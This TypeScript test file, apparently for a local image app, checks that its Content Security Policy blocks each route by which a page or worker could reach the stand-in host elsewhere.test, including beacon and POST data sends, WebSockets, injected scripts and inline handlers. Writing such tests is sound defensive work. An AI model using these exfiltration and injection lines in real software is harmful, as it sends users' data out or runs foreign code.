/** Nothing leaves this computer, whoever asks for it. */
import { assertEquals } from "@std/assert";
import type { Page, WebWorker } from "puppeteer-core";
import { drop, outcomeOf } from "./hands.ts";
import { cellsFile } from "./own_files.ts";
import type { Site } from "./site.ts";

const AWAY = "http://elsewhere.test";

/** Notes what the policy refuses: what it was, and of which kind. */
const LISTEN = `globalThis.refused = [];
  addEventListener("securitypolicyviolation", (event) =>
    refused.push(event.effectiveDirective + " " + event.blockedURI));`;

/** Ways out of a page, and what the policy says of each. */
const FROM_PAGE: readonly (readonly [code: string, refused: string])[] = [
  [`fetch("${AWAY}/a")`, `connect-src ${AWAY}/a`],
  [`navigator.sendBeacon("${AWAY}/b", "pixels")`, `connect-src ${AWAY}/b`],
  [`new WebSocket("ws://elsewhere.test/c")`, "connect-src ws://elsewhere.test/c"],
  [`new Image().src = "${AWAY}/d.png"`, `img-src ${AWAY}/d.png`],
  [`add("script", { src: "${AWAY}/e.js" })`, `script-src-elem ${AWAY}/e.js`],
  [`add("script", { textContent: "globalThis.isIn = true" })`, "script-src-elem inline"],
  [`add("div", { innerHTML: "<p onclick='isIn = true'>" })`, "script-src-attr inline"],
  [`add("style", { textContent: "p{}" })`, "style-src-elem inline"],
  [`add("link", { rel: "stylesheet", href: "${AWAY}/f" })`, `style-src-elem ${AWAY}/f`],
  [`add("iframe", { src: "${AWAY}/g" })`, `frame-src ${AWAY}`],
  [`add("video", { src: "${AWAY}/h" })`, `media-src ${AWAY}/h`],
  [`add("object", { data: "${AWAY}/i" })`, `object-src ${AWAY}`],
  [
    `add("form", { action: "${AWAY}/j", method: "post" }).submit()`,
    `form-action ${AWAY}/j`,
  ],
  [`add("base", { href: "${AWAY}/k" })`, `base-uri ${AWAY}/k`],
  [`import("${AWAY}/l.js")`, `script-src-elem ${AWAY}/l.js`],
  [`setTimeout("globalThis.isIn = true")`, "script-src eval"],
];

const FROM_WORKER: readonly (readonly [code: string, refused: string])[] = [
  [`fetch("${AWAY}/m", { method: "POST", body: "pixels" })`, `connect-src ${AWAY}/m`],
  [`new WebSocket("ws://elsewhere.test/n")`, "connect-src ws://elsewhere.test/n"],
];

/** Tries one way out after the other, and tells what was refused. */
async function tryOut(
  place: Page | WebWorker,
  ways: readonly (readonly [code: string, refused: string])[],
): Promise<string[]> {
  await place.evaluate(LISTEN);
  for (const [code] of ways) {
    await place.evaluate(`(async () => {
      const add = (tag, properties) => {
        const made = Object.assign(document.createElement(tag), properties);
        document.body.append(made);
        return made;
      };
      const before = refused.length;
      try { await (${code}); } catch { /* Refused at once. */ }
      for (let i = 0; i < 50 && refused.length === before; i++) {
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    })()`);
  }
  return await place.evaluate("refused") as string[];
}

/** Whatever is tried is refused, by the page and by its worker. */
export async function letsNothingOut({ outside, visit }: Site): Promise<void> {
  await visit(async (visit) => {
    const { page } = visit;
    await drop(visit, await cellsFile());
    await outcomeOf(page, "cells.png");
    assertEquals(await tryOut(page, FROM_PAGE), FROM_PAGE.map(([, refused]) => refused));
    const [worker] = page.workers();
    assertEquals(await tryOut(worker!, FROM_WORKER), FROM_WORKER.map(([, it]) => it));
    assertEquals(await page.evaluate("globalThis.isIn"), undefined);
  }, /Content Security Policy/);
  assertEquals(outside.asked(), []);
}

/** What all visits asked of other places is nothing; and it would have been noticed. */
export async function askedNothing({ browser, outside }: Site): Promise<void> {
  assertEquals(outside.asked(), []);
  const page = await browser.newPage();
  await page.evaluate(`fetch("${AWAY}/seen", { mode: "no-cors" }).catch(() => {})`);
  await page.close();
  assertEquals(outside.asked(), [`GET ${AWAY}/seen HTTP/1.1`]);
}
